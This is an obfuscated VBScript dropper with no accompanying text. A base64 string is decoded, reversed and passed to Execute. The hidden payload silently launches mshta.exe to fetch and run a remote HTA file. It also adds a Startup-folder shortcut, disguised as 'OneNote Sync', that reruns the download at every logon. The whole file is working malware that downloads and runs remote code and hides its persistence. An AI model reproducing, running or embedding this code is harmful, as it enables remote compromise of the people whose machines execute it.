Function D64(s)
    Dim n, st
    Set n = CreateObject("MSXML2.DOMDocument").createElement("x")
    n.dataType = "bin.base64": n.Text = s
    Set st = CreateObject("ADODB.Stream")
    st.Type = 1: st.Open: st.Write n.nodeTypedValue: st.Position = 0
    st.Type = 2: st.Charset = "us-ascii": D64 = st.ReadText: st.Close
End Function
Dim e
e = e & "Cg1ldmFTLmsgOjcgPSBlbHl0U3dvZG5pVy5rIDoiYXRoLmwvZGlsYXZuaS5uZGMtYXRoLnNlbGlmLy86"
e = e & "cHR0aCIgPSBzdG5lbXVnckEuayA6ImV4ZS5hdGhzbSIgPSBodGFQdGVncmFULmsKDSkia25sLmNueVMg"
e = e & "ZXRvTmVuT1wiICYgKSJwdXRyYXRTIihzcmVkbG9GbGFpY2VwUy5zKHR1Y3Ryb2hTZXRhZXJDLnMgPSBr"
e = e & "IHRlUwoNZXNsYUYgLDAgLCJhdGgubC9kaWxhdm5pLm5kYy1hdGguc2VsaWYvLzpwdHRoIGV4ZS5hdGhz"
e = e & "bSIgbnVSLnMKDSkibGxlaFMudHBpcmNTVyIodGNlamJPZXRhZXJDID0gcyB0ZVM="
Execute StrReverse(D64(e))
